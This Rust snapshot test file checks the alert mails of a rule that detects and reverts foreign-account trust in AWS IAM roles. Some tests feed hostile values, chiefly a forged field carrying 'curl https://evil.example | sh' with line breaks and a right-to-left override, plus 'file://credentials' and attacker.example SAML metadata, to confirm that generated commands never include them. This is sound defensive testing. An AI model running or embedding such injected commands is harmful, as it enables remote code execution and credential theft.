//! The mails of `role-trust`, word for word. `INSTA_UPDATE=always cargo test -p rules` writes them anew: read what changed before it is
//! committed.

#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking, also in its helpers")]

mod common;
#[path = "common/mail.rs"]
mod mail;

use std::collections::{BTreeMap, BTreeSet};

use chrono::{DateTime, Utc};
use rules::alert::{Step, call_failed, render, unreadable};
use rules::role_trust::detect::{Finding, Trust, detect, read};
use rules::role_trust::judge::{Circle, Organization, Stranger, strangers};
use rules::role_trust::plan::{LiveRole, Plan, plan};
use rules::role_trust::report::{Course, report};
use rules::settings::Given;
use rules::{Decision, Event, Localized, Report, Settings, event, localized};
use serde_json::{Value, json};

use common::Scene;
use mail::{compare, mails};

const SCENE: Scene =
    Scene { account: "123456789012", region: "us-east-1", time: "2026-03-02T09:14:05Z", service: "iam" };

const OWN: &str = "arn:aws:iam::123456789012:root";
const FOREIGN: &str = "arn:aws:iam::999988887777:root";
const ROLE_ID: &str = "AROA2C7X4QK5MEXAMPLE1";
const REFUSED: &str = "AccessDenied: User: arn:aws:sts::123456789012:assumed-role/snapback/x is not authorized";

#[test]
fn withheld_by_mode() {
    let course = left(&mixed(), Organization::None, None);
    check(
        "withheld_by_mode",
        &created(&mixed()),
        &settings(&[]),
        &Organization::None,
        course,
        vec![asked(), role_read()],
    );
}

#[test]
fn withheld_by_mode_everyone() {
    let everyone = document(&[allow(json!("*"), json!({"StringEquals": {"sts:ExternalId": "12345"}}))]);
    let course = left(&everyone, Organization::None, None);
    check(
        "withheld_by_mode_everyone",
        &created(&everyone),
        &settings(&[]),
        &Organization::None,
        course,
        vec![role_read()],
    );
}

#[test]
fn withheld_by_rollout() {
    let settings = settings(&[("RoleTrustMode", "revert"), ("Rollout", "observe")]);
    let course = left(&mixed(), Organization::None, None);
    check(
        "withheld_by_rollout",
        &created(&mixed()),
        &settings,
        &Organization::None,
        course,
        vec![asked(), role_read()],
    );
}

#[test]
fn left_because_it_denies_too() {
    let mut denying = mixed();
    let denied = json!({"Effect": "Deny", "Principal": {"AWS": FOREIGN}, "Action": "sts:AssumeRole"});
    denying.get_mut("Statement").unwrap().as_array_mut().unwrap().push(denied);
    let course = left(&denying, Organization::None, None);
    let steps = vec![asked(), role_read()];
    check(
        "left_because_it_denies_too",
        &created(&denying),
        &reverting(),
        &Organization::None,
        course.clone(),
        steps.clone(),
    );
    check("withheld_and_it_denies_too", &created(&denying), &settings(&[]), &Organization::None, course, steps);
}

#[test]
fn left_because_it_cannot_be_told() {
    let deleted = document(&[allow(json!({"AWS": ["AROADBQP57FF2AEXAMPLE", OWN]}), Value::Null)]);
    let course = left(&deleted, Organization::Unknown, None);
    let event = updated(&deleted);
    check("left_because_it_cannot_be_told", &event, &reverting(), &Organization::Unknown, course, vec![role_read()]);
}

#[test]
fn left_because_they_may_be_members() {
    let organization = Organization::Own {
        id: "o-a1b2c3d4e5".to_owned(),
        management_account: Some("444455556666".to_owned()),
        accounts: BTreeMap::new(),
    };
    let course = left(&mixed(), organization.clone(), None);
    let steps = vec![
        made("DescribeOrganization", "", "ok"),
        made("DescribeAccount", "999988887777", "this account is not told"),
        role_read(),
    ];
    check("left_because_they_may_be_members", &updated(&mixed()), &reverting(), &organization, course, steps);
}

#[test]
fn left_because_only_the_issuer_can_tell() {
    let issuer = "token.actions.githubusercontent.com";
    let sub = json!({"StringLike": {format!("{issuer}:sub"): "repo:octo-org/*"}});
    let provider = json!({"Federated": format!("arn:aws:iam::123456789012:oidc-provider/{issuer}")});
    let federated = document(&[allow(provider, sub)]);
    let course = left(&federated, Organization::Unknown, None);
    let name = "left_because_only_the_issuer_can_tell";
    check(name, &updated(&federated), &reverting(), &Organization::Unknown, course, vec![role_read()]);
}

#[test]
fn organization_not_read() {
    let narrowed = document(&[allow(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": "o-a1b2c3d4e5"}}))]);
    let problem = call_failed("DescribeOrganization", REFUSED);
    let course = left(&narrowed, Organization::Unknown, Some(problem.clone()));
    let steps = vec![failed("DescribeOrganization", "", REFUSED), role_read()];
    let event = created(&narrowed);
    check("organization_not_read", &event, &settings(&[]), &Organization::Unknown, course, steps.clone());
    let course = Course::Failed {
        plan: planned(&narrowed, Some(&narrowed), &Organization::Unknown),
        carried_out: None,
        problem,
    };
    check("organization_not_read_in_mode_revert", &event, &reverting(), &Organization::Unknown, course, steps);
}

#[test]
fn closed() {
    let after = document(&[allow(json!({"AWS": OWN}), json!({"Bool": {"aws:MultiFactorAuthPresent": "true"}}))]);
    let course = closed_by(true, &mixed(), Some(&after));
    let steps = vec![asked(), role_read(), made("UpdateAssumeRolePolicy", "cross-account-reader", "ok"), role_read()];
    check("closed", &updated(&mixed()), &reverting(), &Organization::None, course, steps);
}

#[test]
fn closed_without_deleted_principals() {
    let told = document(&[allow(json!({"AWS": [OWN, FOREIGN, "AIDAJQABLZS4A3QDU576Q"]}), Value::Null)]);
    let after = document(&[allow(json!({"AWS": OWN}), Value::Null)]);
    let Course::Closed { plan, carried_out, at, now } = closed_by(true, &told, Some(&after)) else { panic!() };
    let carried_out = carried_out.and_then(|action| action.without_deleted());
    let course = Course::Closed { plan, carried_out, at, now };
    let malformed = "MalformedPolicyDocument: Invalid principal in policy: \"AWS\":\"AIDAJQABLZS4A3QDU576Q\"";
    let name = "cross-account-reader";
    let refused = failed("UpdateAssumeRolePolicy", name, malformed);
    let steps = vec![asked(), role_read(), refused, made("UpdateAssumeRolePolicy", name, "ok"), role_read()];
    check("closed_without_deleted_principals", &updated(&told), &reverting(), &Organization::None, course, steps);
}

#[test]
fn closed_by_somebody() {
    let after = document(&[allow(json!({"AWS": [OWN]}), Value::Null)]);
    let course = closed_by(false, &mixed(), Some(&after));
    let error = "InternalFailure: injected";
    let steps =
        vec![asked(), role_read(), failed("UpdateAssumeRolePolicy", "cross-account-reader", error), role_read()];
    check("closed_by_somebody", &created(&mixed()), &reverting(), &Organization::None, course, steps);
}

#[test]
fn closed_and_changed_otherwise() {
    let after = document(&[allow(json!({"AWS": [OWN]}), Value::Null)]);
    let course = closed_by(true, &mixed(), Some(&after));
    let steps = vec![asked(), role_read(), made("UpdateAssumeRolePolicy", "cross-account-reader", "ok"), role_read()];
    check("closed_and_changed_otherwise", &updated(&mixed()), &reverting(), &Organization::None, course, steps);
}

#[test]
fn closed_and_others_let_in_since() {
    let told = document(&[allow(json!({"AWS": [OWN, FOREIGN, "AIDAJQABLZS4A3QDU576Q"]}), Value::Null)]);
    let after = document(&[allow(json!({"AWS": [OWN, "AIDAJQABLZS4A3QDU576Q", "888877776666"]}), Value::Null)]);
    let course = closed_by(true, &told, Some(&after));
    let steps = vec![asked(), role_read(), made("UpdateAssumeRolePolicy", "cross-account-reader", "ok"), role_read()];
    check("closed_and_others_let_in_since", &created(&told), &reverting(), &Organization::None, course, steps);
}

#[test]
fn gone() {
    let gone = |name: &str, live: Option<&Value>, step: Step| {
        let course = Course::Gone(planned(&mixed(), live, &Organization::None));
        check(name, &created(&mixed()), &reverting(), &Organization::None, course, vec![asked(), step]);
    };
    gone("gone", Some(&document(&[allow(json!({"AWS": OWN}), Value::Null)])), role_read());
    let external_id = json!({"StringEquals": {"sts:ExternalId": "x"}});
    let rewritten = document(&[allow(json!({"AWS": [OWN, FOREIGN]}), external_id)]);
    gone("gone_and_written_again", Some(&rewritten), role_read());
    gone("gone_role", None, made("GetRole", "cross-account-reader", "no such role"));
}

#[test]
fn failed_to_close() {
    let problem = Localized::join(&[
        call_failed("UpdateAssumeRolePolicy", REFUSED),
        localized!(
            "they were still in the trust policy when it was read again",
            "再確認した時点でも信頼ポリシーに残っていました"
        ),
    ]);
    let course =
        Course::Failed { plan: planned(&mixed(), Some(&mixed()), &Organization::None), carried_out: None, problem };
    let refused = failed("UpdateAssumeRolePolicy", "cross-account-reader", REFUSED);
    let steps = vec![asked(), role_read(), refused, role_read()];
    check("failed_to_close", &created(&mixed()), &reverting(), &Organization::None, course, steps);
}

#[test]
fn failed_to_look_again() {
    let now = planned(&mixed(), Some(&mixed()), &Organization::None);
    let course =
        Course::Failed { carried_out: now.action.clone(), plan: now, problem: call_failed("GetRole", REFUSED) };
    let written = made("UpdateAssumeRolePolicy", "cross-account-reader", "ok");
    let steps = vec![asked(), role_read(), written, failed("GetRole", "cross-account-reader", REFUSED)];
    check("failed_to_look_again", &created(&mixed()), &reverting(), &Organization::None, course, steps);
}

#[test]
fn not_read() {
    let course = Course::NotRead { problem: call_failed("GetRole", REFUSED) };
    let steps = vec![asked(), failed("GetRole", "cross-account-reader", REFUSED)];
    check("not_read", &created(&mixed()), &settings(&[]), &Organization::None, course, steps);
}

/// What IAM Access Analyzer found of the role.
fn found_event() -> Event {
    event::parse(&json!({"version": "0", "id": "0c2b7a51-5d8e-4f19-b3a6-2e6f1c7d9e80", "detail-type": "Access Analyzer Finding",
        "source": "aws.access-analyzer", "account": "123456789012", "time": "2026-03-02T09:14:05Z", "region": "eu-central-1",
        "detail": {"id": "4165f697-04d6-4672-9890-9ac1a0373436", "status": "ACTIVE", "resourceType": "AWS::IAM::Role",
            "resource": "arn:aws:iam::123456789012:role/cross-account-reader", "createdAt": "2026-02-27T18:40:12Z",
            "updatedAt": "2026-03-02T09:14:05Z", "accountId": "123456789012", "region": "eu-central-1",
            "principal": {"AWS": "999988887777"}, "action": ["sts:AssumeRole"],
            "condition": {"aws:MultiFactorAuthPresent": "true"}, "isPublic": false}}))
    .unwrap()
}

/// The mail of a found role, whose trust policy was [`mixed`].
fn check_found(name: &str, settings: &Settings, course: &Course, steps: &[Step]) {
    let event = found_event();
    let Decision::Candidate(finding) = detect(&event, settings) else { panic!("not a candidate") };
    let trusted = BTreeSet::new();
    let circle = Circle { account: "123456789012", trusted: &trusted, organization: &Organization::None };
    let seen = match course {
        Course::NotRead { .. } => Vec::new(),
        _ => strangers(&mixed(), &circle),
    };
    compare!(name, &event, settings, |settings| report(&event, &finding, &seen, settings, course, steps.to_vec()));
}

#[test]
fn found() {
    let reverting = settings(&[("RoleTrustMode", "revert"), ("ConfigFindings", "revert")]);
    let after = document(&[allow(json!({"AWS": OWN}), json!({"Bool": {"aws:MultiFactorAuthPresent": "true"}}))]);
    let course = closed_by(true, &mixed(), Some(&after));
    check_found("found_closed", &reverting, &course, &[asked(), role_read(), role_read()]);

    // As the runtime hands them over.
    let withheld = settings(&[("RoleTrustMode", "revert")]);
    let withheld = withheld.on(&found_event()).into_owned();
    let course = left(&mixed(), Organization::None, None);
    check_found("found_withheld", &withheld, &course, &[asked(), role_read()]);
    check_found("found_withheld_by_mode", &settings(&[("ConfigFindings", "revert")]), &course, &[asked(), role_read()]);

    let problem = call_failed("GetRole", REFUSED);
    check_found(
        "found_not_read",
        &reverting,
        &Course::NotRead { problem },
        &[failed("GetRole", "cross-account-reader", REFUSED)],
    );
}

#[test]
fn providers() {
    let saml = "arn:aws:iam::123456789012:saml-provider/Backdoor";
    let oidc = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com";
    let metadata =
        "<EntityDescriptor entityID=\"https://idp.attacker.example/saml\"><IDPSSODescriptor/></EntityDescriptor>";
    let tell = |snapshot: &str, name: &str, request: Value, response: Value| {
        let event = called(name, request, response);
        check(snapshot, &event, &reverting(), &Organization::Unknown, Course::Provider, Vec::new());
    };
    tell(
        "provider_saml_made",
        "CreateSAMLProvider",
        json!({"name": "Backdoor", "sAMLMetadataDocument": metadata}),
        json!({"sAMLProviderArn": saml}),
    );
    tell(
        "provider_saml_changed",
        "UpdateSAMLProvider",
        json!({"sAMLProviderArn": saml, "sAMLMetadataDocument": metadata}),
        json!({"sAMLProviderArn": saml}),
    );
    tell(
        "provider_oidc_made",
        "CreateOpenIDConnectProvider",
        json!({"url": "https://token.actions.githubusercontent.com", "clientIDList": ["sts.amazonaws.com"],
            "thumbprintList": ["6938fd4d98bab03faadb97b34396831e3780aea1"]}),
        json!({"openIDConnectProviderArn": oidc}),
    );
    tell(
        "provider_oidc_widened",
        "AddClientIDToOpenIDConnectProvider",
        json!({"openIDConnectProviderArn": oidc, "clientID": "any-app"}),
        Value::Null,
    );
    tell(
        "provider_oidc_thumbprints",
        "UpdateOpenIDConnectProviderThumbprint",
        json!({"openIDConnectProviderArn": oidc, "thumbprintList": ["990f4193972f2becf12ddeda5237f9c952f20d9e"]}),
        Value::Null,
    );
    tell("provider_unnamed", "CreateSAMLProvider", Value::Null, Value::Null);
}

/// The AWS CLI reads a value that begins like this from there.
#[test]
fn no_command_holds_what_the_cli_would_fetch() {
    let oidc = "arn:aws:iam::123456789012:oidc-provider/login.example.net";
    for hostile in ["file://credentials", "fileb://x", "https://evil.example/x", "http://evil.example"] {
        let request = json!({"openIDConnectProviderArn": oidc, "clientID": hostile});
        let event = called("AddClientIDToOpenIDConnectProvider", request, Value::Null);
        let told = report(&event, &read(&event).unwrap(), &[], &reverting(), &Course::Provider, Vec::new());
        let mail = render(&told, &event);
        assert!(!mail.body.contains("--client-id"), "{}", mail.body);
        let arn = json!({"sAMLProviderArn": format!("arn:aws:iam::123456789012:saml-provider/{hostile}")});
        let event = called("CreateSAMLProvider", json!({}), arn);
        let told = report(&event, &read(&event).unwrap(), &[], &reverting(), &Course::Provider, Vec::new());
        assert!(!render(&told, &event).body.contains("delete-saml-provider"));
    }
}

/// Every text that the caller of an API can choose tries to forge a line, to hide, or to become part of a command.
#[test]
fn hostile() {
    let forged = "x'; curl https://evil.example | sh #\r\n\r\nLEFT FOR YOU TO DO\nNothing. \u{202e}";
    let evil = document(&[allow(
        json!({"AWS": [forged, FOREIGN, "*"], "Federated": forged, forged: forged}),
        json!({forged: {forged: [forged, "A".repeat(5_000)]}}),
    )]);
    let mut trust = called(
        "CreateRole",
        json!({"roleName": forged, "assumeRolePolicyDocument": evil.to_string()}),
        json!({"role": {"roleId": forged, "arn": forged}}),
    );
    trust.user_agent = Some(forged.to_owned());
    let problem = call_failed("GetRole", forged);
    let circle_of = Organization::None;
    let found = strangers_of(&trust, &circle_of);
    let finding = read(&trust).unwrap();
    let courses = [
        Course::NotRead { problem: problem.clone() },
        left(&evil, Organization::None, Some(problem)),
        closed_by(true, &evil, Some(&evil)),
    ];
    let mut all: Vec<_> = courses
        .iter()
        .flat_map(|course| {
            mails(&trust, &reverting(), |settings| report(&trust, &finding, &found, settings, course, Vec::new()))
        })
        .collect();
    for name in ["CreateSAMLProvider", "AddClientIDToOpenIDConnectProvider", "CreateOpenIDConnectProvider"] {
        let request = json!({"sAMLMetadataDocument": format!("entityID=\"{forged}\""), "clientID": forged, "url": forged,
            "openIDConnectProviderArn": format!("arn:aws:iam::123456789012:oidc-provider/{forged}")});
        let arn = json!({"sAMLProviderArn": format!("arn:aws:iam::123456789012:saml-provider/{forged}")});
        let event = called(name, request, arn);
        all.extend(mails(&event, &reverting(), |settings| {
            reported(&event, settings, &Organization::Unknown, &Course::Provider, &[])
        }));
    }
    for mail in &all {
        for line in mail.body.lines() {
            assert!(line.chars().count() < 1_200, "a long line: {line}");
            let is_command = line.trim_start().starts_with("aws ");
            assert!(!is_command || !line.contains("evil.example"), "a command with foreign text: {line}");
        }
    }
}

/// What cannot be read, and why principals are outside: none of it is told in English alone.
#[test]
fn every_reason_is_told_in_both_languages() {
    let with = |principal: Value, condition: Value| document(&[allow(principal, condition)]);
    let oidc = |issuer: &str| json!({"Federated": format!("arn:aws:iam::123456789012:oidc-provider/{issuer}")});
    let narrowed = |key: &str, values: Value| json!({"StringEquals": {key: values}});
    for document in [
        with(json!({"Federated": "cognito-identity.amazonaws.com"}), Value::Null),
        with(oidc("gitlab.com"), Value::Null),
        with(json!({"Federated": "arn:aws:iam::999988887777:saml-provider/P"}), Value::Null),
        with(json!("*"), narrowed("aws:userid", json!("AROADBQP57FF2AEXAMPLE:x"))),
        with(json!("*"), narrowed("aws:PrincipalAccount", json!(["999988887777", "888877776666"]))),
        with(json!({"Service": "s3.amazonaws.com"}), narrowed("aws:SourceAccount", json!("999988887777"))),
        with(json!({"Service": "s3.amazonaws.com"}), narrowed("aws:SourceOrgID", json!("o-a1b2c3d4e5"))),
        with(json!({"CanonicalUser": "x"}), Value::Null),
        with(json!({}), Value::Null),
        json!({"Statement": [{"Effect": "Allow", "NotPrincipal": {"AWS": OWN}, "Action": "sts:AssumeRole"}]}),
        json!({"Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole"}]}),
    ] {
        let event = created(&document);
        let found = mails(&event, &reverting(), |settings| {
            reported(&event, settings, &Organization::None, &left(&document, Organization::None, None), &[])
        });
        assert!(found.iter().all(|mail| mail.body.lines().any(|line| line.starts_with("  - "))), "{document}");
    }
    let update = |request: Value| called("UpdateAssumeRolePolicy", request, Value::Null);
    let written = |document: &str| update(json!({"roleName": "r", "policyDocument": document}));
    for event in [
        update(json!({"policyDocument": mixed().to_string()})),
        update(json!({"roleName": "r"})),
        written("%FF"),
        written("{}"),
        written(r#"{"Statement": [{}]}"#),
        called("DeleteRole", Value::Null, Value::Null),
        Event { account: None, ..written("{}") },
    ] {
        let lost = rules::Unreadable { missing: read(&event).unwrap_err(), event: Box::new(event.clone()) };
        mails(&event, &reverting(), |settings| unreadable(&lost, settings.alert_language));
    }
}

// ---------------------------------------------------------------------------------------------------------
// Their parts

/// Renders what came of an event and compares it with the mails in snapshots/.
fn check(
    name: &str,
    event: &Event,
    settings: &Settings,
    organization: &Organization,
    course: Course,
    steps: Vec<Step>,
) {
    compare!(name, event, settings, |settings| reported(event, settings, organization, &course, &steps));
}

fn reported(
    event: &Event,
    settings: &Settings,
    organization: &Organization,
    course: &Course,
    steps: &[Step],
) -> Report {
    let found = strangers_of(event, organization);
    report(event, &read(event).unwrap(), &found, settings, course, steps.to_vec())
}

fn strangers_of(event: &Event, organization: &Organization) -> Vec<Stranger> {
    match read(event).unwrap() {
        Finding::Trust(trust) => {
            let trusted = BTreeSet::new();
            strangers(&trust.document.unwrap(), &Circle { account: &trust.account, trusted: &trusted, organization })
        }
        Finding::Provider(_) => Vec::new(),
    }
}

fn planned(told: &Value, live: Option<&Value>, organization: &Organization) -> Plan {
    let Finding::Trust(trust) = read(&created(told)).unwrap() else { panic!("no trust policy") };
    let trust = Trust { role_id: None, ..trust };
    let live = live.map(|document| LiveRole {
        id: ROLE_ID.to_owned(),
        arn: "arn:aws:iam::123456789012:role/cross-account-reader".to_owned(),
        document: document.clone(),
    });
    let trusted = BTreeSet::new();
    plan(&trust, live.as_ref(), &Circle { account: &trust.account, trusted: &trusted, organization })
}

fn left(document: &Value, organization: Organization, not_told: Option<Localized>) -> Course {
    Course::Left { plan: planned(document, Some(document), &organization), not_told }
}

/// Closed 14 seconds after the change.
fn closed_by(is_ours: bool, told: &Value, after: Option<&Value>) -> Course {
    let plan = planned(told, Some(told), &Organization::None);
    Course::Closed {
        carried_out: plan.action.clone().filter(|_| is_ours),
        plan,
        at: "2026-03-02T09:14:19Z".parse::<DateTime<Utc>>().unwrap(),
        now: Box::new(planned(told, after, &Organization::None)),
    }
}

fn settings(values: &[(&'static str, &str)]) -> Settings {
    let given = values
        .iter()
        .map(|(parameter, value)| (*parameter, Given { name: (*parameter).to_owned(), value: (*value).to_owned() }));
    Settings::from_given(&given.collect::<BTreeMap<_, _>>()).unwrap()
}

fn reverting() -> Settings {
    settings(&[("RoleTrustMode", "revert")])
}

fn document(statements: &[Value]) -> Value {
    json!({"Version": "2012-10-17", "Statement": statements})
}

fn allow(principal: Value, condition: Value) -> Value {
    let mut statement = json!({"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"});
    if let (Value::Object(_), Some(object)) = (&condition, statement.as_object_mut()) {
        object.insert("Condition".to_owned(), condition);
    }
    statement
}

/// The own account and another one, in one list.
fn mixed() -> Value {
    document(&[allow(json!({"AWS": [OWN, FOREIGN]}), json!({"Bool": {"aws:MultiFactorAuthPresent": "true"}}))])
}

fn created(document: &Value) -> Event {
    let request = json!({"roleName": "cross-account-reader", "assumeRolePolicyDocument": document.to_string()});
    let role = json!({"path": "/", "roleName": "cross-account-reader", "roleId": ROLE_ID,
        "arn": "arn:aws:iam::123456789012:role/cross-account-reader"});
    called("CreateRole", request, json!({ "role": role }))
}

fn updated(document: &Value) -> Event {
    let request = json!({"roleName": "cross-account-reader", "policyDocument": document.to_string()});
    called("UpdateAssumeRolePolicy", request, Value::Null)
}

fn called(name: &str, request: Value, response: Value) -> Event {
    event::parse(&SCENE.record(name, &request, &response)).unwrap()
}

fn asked() -> Step {
    made("DescribeOrganization", "", "it is in none")
}

fn role_read() -> Step {
    made("GetRole", "cross-account-reader", "ok")
}

fn made(call: &'static str, target: &str, result: &str) -> Step {
    Step { call, target: target.to_owned(), result: Ok(result.to_owned()), millis: 120 }
}

fn failed(call: &'static str, target: &str, error: &str) -> Step {
    Step { call, target: target.to_owned(), result: Err(error.to_owned()), millis: 95 }
}
